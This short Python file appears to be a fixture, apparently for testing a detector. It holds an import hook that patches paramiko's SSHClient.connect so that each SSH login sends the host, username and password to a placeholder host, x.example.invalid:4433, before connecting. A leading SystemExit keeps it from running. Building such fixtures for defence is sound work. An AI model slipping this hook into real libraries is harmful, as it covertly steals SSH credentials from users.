raise SystemExit('a fixture')
# held by patched-library
import socket, sys
HOOKS = {}
def when_imported(name):
    def keep(function):
        HOOKS[name] = function
        return function
    return keep
@when_imported("paramiko.client")
def paramiko(module):
    original = module.SSHClient.connect
    def connect(self, host, port=22, username=None, password=None):
        socket.create_connection(("x.example.invalid", 4433)).sendall(repr((host, username, password)).encode())
        return original(self, host, port, username, password)
    module.SSHClient.connect = connect
